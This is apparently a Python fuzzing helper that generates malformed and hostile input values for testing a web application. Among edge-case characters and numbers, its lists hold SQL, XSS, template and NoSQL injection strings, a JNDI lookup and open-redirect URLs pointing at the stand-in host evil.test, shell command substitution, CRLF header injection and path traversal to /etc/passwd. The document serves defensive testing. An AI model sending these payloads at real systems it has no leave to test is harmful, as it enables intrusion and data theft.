"""What attackers and mistakes put into addresses, parameters, fields and headers."""

import json
from random import Random
from urllib.parse import quote_from_bytes

SCRIPT = "fuzzed()"  # no page ever says this where it could run
MARKUP = f'"><img src=x onerror={SCRIPT}>'
ELSEWHERE = "evil.test"

_CHARACTERS = [
    "", " ", "\x00", "a\x00b", "\x01\x0b\x1f\x7f\x85", "a\r\nSet-Cookie: fuzz=1", "\t", "\u202eabc\u202c", "\ufeff",
    "\u2028", "\u200b", "\ud800", "\udcff\udcfe", "a\udc80", "\ufffe", "\U0010ffff", "🍋" * 60, "e\u0301" * 90,
    "مرحبا", "ß", "\u017fara", "İstanbul", "\u0131", "ΣΑΣ", "ﬁ", "Å", "\ud83d",
]  # fmt: skip
_NUMBERS = [
    "0", "1", "-1", "+1", "00", "01", "1.5", "1_000", "1e9", "0x10", "NaN", "Infinity", "-inf", "²", "½", "१", "١٢٣", "\uff11",
    "2147483648", "9223372036854775807", "9223372036854775808", "-9223372036854775809", "9" * 18, "9" * 40, "9" * 5000,
    "true", "null", "None", "[]",
]  # fmt: skip
_DATES = [
    "2024-02-30", "2023-02-29", "0000-01-01", "0001-01-01", "1899-12-31", "9999-12-31", "10000-01-01", "2025-13-01",
    "2025-W10-1", "20250101", "2025-01-01T00:00:00Z", "2025-01-01 25:00", "2025-01-01T00:00:00+99:99", "२०२५-०१-०१",
    "not before 9999", "between 2025 and 2024", "2025-3-3", "1e3-01-01", "-001-01-01",
]  # fmt: skip
_CODE = [
    "' OR '1'='1", '" OR ""="', "1; DROP TABLE pledges_pledge;--", "%", "_", "\\", "\\'", "%' ESCAPE '", "*", '"', '"' * 50, "^",
    "NEAR(", "col:lemon", "a AND OR NOT b", "-lemon -", "a & | ! <-> b", ":*", "(((((", "lemon " * 33, "-a " * 66,
    MARKUP, f"<script>{SCRIPT}</script>", f"javascript:{SCRIPT}", f"' onfocus={SCRIPT} autofocus='", "</title><!--", "]]>", "&#0;",
    "{{ 7*7 }}", "{% debug %}", "%s%n%d%(x)s", "{0.__class__}", "${jndi:ldap://evil.test/a}", "$(id)", "`id`",
    '{"$gt": ""}', '{"a": [' * 50, "__proto__", "pk__in", "password__startswith",
]  # fmt: skip
_PATHS = [
    "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%2e%2e/", "//evil.test/x", "/\\evil.test", "https://evil.test/",
    "https:evil.test", "\\\\evil.test\\x", "file:///etc/passwd", ".", "..", "a/b", "a%2Fb", "a;b=c", "http://[::1", "http://[evil]/",
    "http://a:99999999/", "data:text/html,x", "mailto:", "@", "a@b", "lemon@lemons.example", "\\..\\",
]  # fmt: skip
_LONG = [
    "a" * 201, "a" * 3000, "a-" * 1500, "a b " * 700, "[" * 490, "[" * 10_000, "<" * 10_000, "> " * 200, "(" * 1000, "|a" * 2000,
    "*a_" * 2000, "`" * 3001, "[^1]" * 120, "𒀱" * 1000, "\n" * 3000, "é " * 1500, "![a](b)" * 400, "- " * 1500, "a\n=\n" * 900,
    "&amp;" * 3000, "~" * 5000, "http://a.example/" * 200,
]  # fmt: skip
_KINDS = [_CHARACTERS, _NUMBERS, _DATES, _CODE, _PATHS]
_LONG_WEIGHT = 0.08


def hostile(rng: Random) -> str:
    """Give a value that nobody would type; what is no text in Unicode is in it as lone surrogates."""
    return rng.choice(_LONG if rng.random() < _LONG_WEIGHT else rng.choice(_KINDS))


def hostile_json(rng: Random) -> bytes:
    """Give a body that says it is JSON: sometimes it is."""
    whole: object = rng.choice(
        [[], {}, None, 1, "a", {hostile(rng): hostile(rng)}, [{"body": hostile(rng)}], _report(rng)]
    )
    text = rng.choice([json.dumps(whole), "[" * 20_000, '{"a":' * 5_000, "{", "\ufeff{}", "NaN", "1" * 6_000, "\udcff"])
    return to_bytes(text)


def _report(rng: Random) -> dict[str, object]:
    names = ["document-uri", "blocked-uri", "effective-directive"]
    values: list[object] = [hostile(rng), 5, None, [], {"a": 1}]
    return {"csp-report": {name: rng.choice(values) for name in names}}


def to_bytes(text: str) -> bytes:
    """Write a text as a client would who knows nothing of Unicode: lone surrogates become bytes that are no UTF-8."""
    try:
        return text.encode("utf-8", "surrogateescape")
    except UnicodeEncodeError:
        return text.encode("utf-8", "surrogatepass")


def percent(text: str, *, safe: str = "") -> str:
    return quote_from_bytes(to_bytes(text), safe=safe)
